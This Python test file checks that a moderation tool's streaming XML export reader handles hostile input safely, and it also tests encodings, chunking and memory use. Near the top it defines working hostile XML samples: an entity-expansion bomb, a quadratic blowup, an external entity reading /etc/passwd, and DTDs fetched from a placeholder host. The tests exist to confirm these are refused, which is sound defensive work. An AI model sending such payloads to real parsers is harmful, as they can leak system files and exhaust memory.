"""XML of exports is read in pieces of any size, and hostile XML does no harm."""

import io
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation.domain.errors import InvalidInput
from moderation.exports import xml_records
from moderation.exports.formats import open_export
from tests.exports import samples
from tests.exports.samples import SITE

BOMB = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<rss><channel><item><comment><comment_content>&d;</comment_content></comment></item></channel></rss>"""
QUADRATIC = f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]><rss><channel>{"&a;" * 1_000}</channel></rss>'
FILE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel>&x;</channel></rss>'
REMOTE = '<!DOCTYPE rss SYSTEM "http://192.0.2.1/evil.dtd"><rss><channel></channel></rss>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]><rss></rss>'


def records(content: bytes) -> list[xml_records.Record]:
    fields = ("channel/item/title", "channel/item/comment/text", "channel/item/comment/parent@id")
    return list(xml_records.read_records(io.BytesIO(content), "f.xml", "rss", ("channel/item/comment",), fields))


def export_with(text: str, before: str = "") -> bytes:
    item = f"<item>{before}<comment><text>{text}</text></comment></item>"
    return f"<rss><channel>{item}</channel></rss>".encode()


@pytest.mark.parametrize("content", [BOMB, QUADRATIC, FILE, REMOTE, PARAMETER])
def test_a_document_type_is_refused(content: str) -> None:
    """No entity is declared, so none can expand, or name a file or a host."""
    with pytest.raises(InvalidInput, match=r"f\.xml declares a document type"):
        records(content.encode())


def test_an_undeclared_entity_is_refused() -> None:
    """Only the five entities of XML exist."""
    with pytest.raises(InvalidInput, match=r"f\.xml is damaged: undefined entity, line 1"):
        records(b"<rss><channel>&nbsp;</channel></rss>")


def test_endless_depth_is_refused() -> None:
    """Each open element takes memory."""
    with pytest.raises(InvalidInput, match=r"f\.xml has elements within 100 others"):
        records(b"<rss>" + b"<a>" * 1_000)


def test_a_huge_field_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A field is kept in memory as a whole, and no other text is."""
    monkeypatch.setattr(xml_records, "MAX_FIELD_CHARS", 1_000)
    assert len(records(export_with("b" * 1_000, before=f"<body>{'a' * 5_000}</body>"))) == 1
    with pytest.raises(InvalidInput, match="has a field of more than 1,000 characters"):
        records(export_with("b" * 1_001))


def test_forbidden_control_characters_are_left_out() -> None:
    """WordPress exports them as they were typed, and a strict reader would refuse the whole file."""
    ((_, fields),) = records(export_with("a\x08\x0b\x00b\tc"))
    assert fields == {"channel/item/comment/text": "ab\tc"}


def test_other_encodings() -> None:
    """UTF-16 with its mark, and an encoding that the file declares, are read."""
    text = export_with("Žluťoučký").decode()
    declared = '<?xml version="1.0" encoding="ISO-8859-2"?>' + text
    for content in (text.encode("utf-16"), declared.encode("iso8859-2"), text.encode("utf-8-sig")):
        ((_, fields),) = records(content)
        assert fields == {"channel/item/comment/text": "Žluťoučký"}


@given(st.integers(1, 200))
def test_the_size_of_pieces_does_not_matter(tmp_path_factory: pytest.TempPathFactory, size: int) -> None:
    """Wherever a piece ends, an address with an ampersand is read, and the records are the same."""
    path = samples.sample("wordpress", tmp_path_factory.mktemp("export"))
    with pytest.MonkeyPatch.context() as patch, open_export("wordpress", path, SITE) as export:
        whole = list(export.comments)
        patch.setattr(xml_records, "_CHUNK_BYTES", size)
        with open_export("wordpress", path, SITE) as export:
            assert list(export.comments) == whole


def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    """Twenty times as many comments take no more memory."""
    path = tmp_path / "large.xml"

    def peak(items: int) -> int:
        body = samples.wxr_item([samples.wxr_comment(number, "A comment. " * 20) for number in range(50)])
        with path.open("wb") as file:
            file.write(samples.WXR_HEAD.encode())
            for _ in range(items):
                file.write(body.encode())
            file.write(samples.WXR_FOOT.encode())
        tracemalloc.start()
        with open_export("wordpress", path, SITE) as export:
            count = sum(1 for _ in export.comments)
        used = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert count == 50 * items
        return used

    assert peak(40) < 1.5 * peak(2)
